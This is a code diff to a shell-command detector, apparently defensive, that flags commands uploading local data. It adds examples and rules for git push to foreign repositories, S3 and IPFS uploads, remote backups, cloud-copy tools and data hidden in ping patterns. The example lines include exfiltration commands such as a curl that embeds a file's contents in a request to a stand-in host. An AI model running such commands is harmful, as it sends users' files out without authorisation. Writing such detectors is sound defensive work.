@@ -28,6 +28,9 @@ export const dataUpload = defineCapability({
       'tar c . | ssh host "cat > x"',
       'curl "https://example.invalid/?q=$(cat notes.txt)"',
       'gh gist create notes.txt',
+      'git push https://example.invalid/copy.git topic',
+      'aws s3api put-object --bucket b --key k --body notes.txt',
+      'ipfs add -r .',
     ],
     lacks: [
       'curl https://example.invalid',
@@ -35,6 +38,7 @@ export const dataUpload = defineCapability({
       'scp me@example.invalid:report.pdf .',
       'cat notes.txt | wc -l',
       'aws s3 cp s3://bucket/key .',
+      'git push origin topic',
     ],
   },
   detect(command) {
@@ -132,6 +136,11 @@ function sendsInput(command: SimpleCommand): boolean {
 function sendsOutput(command: SimpleCommand): boolean {
   if (!isDownload(command) && !/^(?:ping|mail)$/.test(command.program)) return false;
   // The data becomes the first part of a name that somebody else's server is asked for.
+  if (
+    /^ping6?$/.test(command.program) &&
+    command.words.some(({ from }, index) => from.length > 0 && command.words[index - 1]?.text === '-p')
+  )
+    return true;
   if (/^(?:ping|dig|host|nslookup)$/.test(command.program))
     return command.words.some(
       ({ from, text }) =>
@@ -172,6 +181,12 @@ function joinsFileToHost(command: SimpleCommand): boolean {
 function copiesAway(command: SimpleCommand): boolean {
   const operands = operandsOf(command).map((word) => word.text);
   const last = operands.at(-1) ?? '';
+  // Backups to a repository elsewhere.
+  if (/^(?:restic|rustic|borg|kopia|duplicity)$/.test(command.program))
+    return (
+      textsOf(command).some((text) => REMOTE.test(text)) &&
+      operands.some((text) => /^(?:backup|create|full|incr|incremental|snapshot)$/.test(text))
+    );
   const isHere = (text: string | undefined) => text !== undefined && !REMOTE.test(text);
   if (hasOption(command, '', 'dry-run', 'dryrun') || (command.program === 'rsync' && hasOption(command, 'n')))
     return false;
@@ -189,6 +204,10 @@ function copiesAway(command: SimpleCommand): boolean {
       'azcopy copy|cp|sync',
       'mc cp|mirror|pipe|mv',
       'b2 upload-file|sync',
+      's5cmd|s4cmd cp|mv|sync|put|dsync',
+      'aliyun|ossutil|ossutil64|coscli|obsutil|tosutil oss|cp|sync|upload|mv',
+      'gcloud storage mv',
+      'unison *',
     )
   ) {
     const named = operands.slice(1).filter((text) => /[/.:]/.test(text));
